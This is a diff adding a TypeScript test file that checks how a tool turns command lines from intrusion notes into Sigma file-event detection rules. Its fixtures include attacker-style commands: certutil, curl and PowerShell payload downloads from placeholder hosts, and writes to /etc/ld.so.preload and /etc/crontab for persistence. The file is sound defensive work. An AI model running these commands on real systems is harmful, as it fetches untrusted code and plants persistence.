@@ -1,0 +1,70 @@
+import { selfTestRule } from '../evaluate/self-test';
+import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
+import { droppedFileRules } from './dropped-files';
+
+const article = { title: 'Quill intrusion notes', url: 'https://notes.example.org/quill', date: '2026-11-28' };
+const evidence = { start: 0, end: 1, text: 'x' };
+const cited = 'described in the notes';
+
+const fileRules = (platform: BuiltinSigmaInput['platform'], ...values: string[]) =>
+  generateBuiltinRules({
+    article,
+    platform,
+    cmdlines: values.map((value) => ({ evidence, confidence: 0.9, value, executable: '' })),
+  }).filter((draft) => draft.telemetryClass === 'file_event');
+const fires = (rule: object, value: string) => selfTestRule(rule as Record<string, unknown>, [{ type: 'cmdline', value }]).fires;
+
+describe('file-event rules on the files the programs write', () => {
+  it('keys a Windows download on the downloader, the folder without the user, and the name', () => {
+    const [rule] = fileRules('windows', 'certutil.exe -urlcache -split -f http://203.0.113.7/quilltool.exe %PUBLIC%\\quilltool.exe');
+    expect(rule?.rule.logsource).toEqual({ category: 'file_event', product: 'windows' });
+    expect(rule?.rule.detection['selection']).toEqual({
+      'Image|endswith': '\\certutil.exe',
+      'TargetFilename|contains': '\\Users\\Public\\',
+      'TargetFilename|endswith': '\\quilltool.exe',
+    });
+    expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/quilltool.exe C:\\Users\\Public\\quilltool.exe')).toBe(
+      true,
+    );
+    expect(fires(rule?.rule as object, 'curl -o C:\\Users\\Public\\quilltool.exe http://198.51.100.9/q')).toBe(false);
+  });
+
+  it('makes no rule of a made-up name, a document or output in common folders', () => {
+    expect(
+      fileRules('windows', 'cmd /c curl -Lo C:\\Users\\[victim]\\AppData\\Local\\Temp\\v7.msi https://quill.example.net/v7.msi'),
+    ).toEqual([]);
+    expect(fileRules('windows', 'powershell -c "iwr https://quill.example.net/d -OutFile $env:TEMP\\invoice.pdf"')).toEqual([]);
+    expect(fileRules('windows', 'copy a1.txt C:\\Users\\Public\\b2.txt')).toEqual([]);
+  });
+
+  it('keys a file whose path is the behaviour on the path alone, whichever program or redirection wrote it', () => {
+    const rules = fileRules('linux', "echo '/usr/local/lib/quill.so' | tee -a /etc/ld.so.preload", 'echo "@reboot /opt/q" >> /etc/crontab');
+    expect(rules.map((draft) => [draft.rule.title, draft.rule.detection['selection']])).toEqual([
+      ['Dynamic Linker Preload File Written', { TargetFilename: '/etc/ld.so.preload' }],
+      ['System Crontab Written', { TargetFilename: '/etc/crontab' }],
+    ]);
+    for (const draft of rules)
+      expect(
+        selfTestRule(draft.rule as Record<string, unknown>, [
+          { type: 'cmdline', value: 'echo x | tee /etc/ld.so.preload' },
+          { type: 'cmdline', value: 'echo y >> /etc/crontab' },
+        ]).fires,
+      ).toBe(true);
+  });
+
+  it('leaves a Unix redirection into a folder to the shell-write rule, and makes no rule of output in common places', () => {
+    const rules = droppedFileRules([{ product: 'linux', commandLine: 'base64 -d > /run/systemd/system/quill.service' }], cited);
+    expect(rules).toEqual([]);
+    expect(droppedFileRules([{ product: 'linux', commandLine: 'curl -o /tmp/a1 https://quill.example.net/a1' }], cited)).toEqual([]);
+  });
+
+  it('keeps a Windows redirection that writes a script into a folder of the intrusion, not captured output', () => {
+    const [rule] = fileRules('windows', 'cmd /c echo start C:\\ProgramData\\Quill\\q.exe > C:\\ProgramData\\Quill\\quillrun.bat');
+    expect(rule?.rule.detection['selection']).toEqual({
+      'TargetFilename|contains': '\\ProgramData\\Quill\\',
+      'TargetFilename|endswith': '\\quillrun.bat',
+    });
+    expect(fires(rule?.rule as object, 'echo x > C:\\ProgramData\\Quill\\quillrun.bat')).toBe(true);
+    expect(fileRules('windows', 'whoami /all > C:\\ProgramData\\Quill\\who.txt')).toEqual([]);
+  });
+});
